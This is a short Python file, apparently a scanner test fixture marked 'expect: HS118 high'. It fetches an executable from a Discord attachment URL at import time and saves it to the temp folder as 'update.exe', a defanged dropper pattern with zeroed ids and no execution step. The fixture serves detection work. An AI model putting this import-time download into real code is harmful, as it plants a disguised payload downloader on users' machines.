# Defanged: fetches a program from Discord's attachment CDN when imported
# (ids zeroed; nothing is run here).
import os

import requests


def download(url, path):
    with open(path, "wb") as f:
        f.write(requests.get(url, timeout=30).content)  # expect: HS118 high


download(
    "https://cdn.discordapp.com/attachments/000000000000000000/000000000000000000/defanged.exe",
    os.path.join(os.environ.get("TEMP", "/tmp"), "update.exe"),
)
